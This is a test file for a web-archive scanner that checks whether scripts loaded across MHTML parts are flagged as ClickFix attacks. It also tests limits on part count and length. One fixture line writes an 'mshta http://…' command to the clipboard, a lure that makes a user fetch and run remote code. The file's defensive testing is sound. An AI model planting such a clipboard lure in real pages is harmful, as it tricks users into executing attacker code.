/** Scripts that pages of a web archive load from its other parts. */

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { JOINED_MAX, PARTS_MAX } from './related.ts'

const { inspect } = useInspector()

const COPIES = "navigator.clipboard.writeText('mshta http://203.0.113.5/a')"
const part = (headers: string, body: string): string =>
  `--b\r\n${headers}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}\r\n`
const page = (...sources: string[]): string =>
  part(
    'Content-Type: text/html',
    `<html><p>Page</p>${sources.map((each) => `<script src="${each}"></script>`).join('')}</html>`,
  )
const archive = (...parts: string[]): Buffer =>
  Buffer.from(`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n${parts.join('')}--b--\r\n`)

function outcome(bytes: Buffer): string | undefined {
  const { findings, obstacle } = inspect(bytes)
  return findings.find(({ severity }) => severity === 'malicious')?.id ?? obstacle?.reason
}

test('a script is found by its id, its address and the end of its address', () => {
  const named = (header: string): string => part(header, COPIES)
  assert.equal(outcome(archive(page('cid:a@b'), named('Content-ID: <a@b>'))), 'Docvet.Html.ClickFix')
  assert.equal(
    outcome(archive(page('http://a/b.js'), named('Content-Location: http://a/b.js'))),
    'Docvet.Html.ClickFix',
  )
  assert.equal(outcome(archive(page('./b.js'), named('Content-Location: file:///C:/b.js'))), 'Docvet.Html.ClickFix')
  assert.equal(outcome(archive(page('cid:c@b'), named('Content-ID: <a@b>'))), undefined)
})

test('an archive has as many parts as the limit', () => {
  const many = (count: number): Buffer =>
    archive(page('cid:0'), ...Array.from({ length: count - 1 }, (_, i) => part(`Content-ID: <${i}>`, 'var a')))
  assert.equal(outcome(many(PARTS_MAX)), undefined)
  assert.equal(outcome(many(PARTS_MAX + 1)), 'too_complex')
})

test('pages with their scripts are as long as the limit', () => {
  const frame = '<html><p>Page</p><script>\n</script></html>\r\n'.length
  const long = (length: number): Buffer => archive(page('cid:a'), part('Content-ID: <a>', ' '.repeat(length - 2)))
  assert.equal(outcome(long(JOINED_MAX - frame)), undefined)
  assert.equal(outcome(long(JOINED_MAX + 1)), 'too_complex')
})
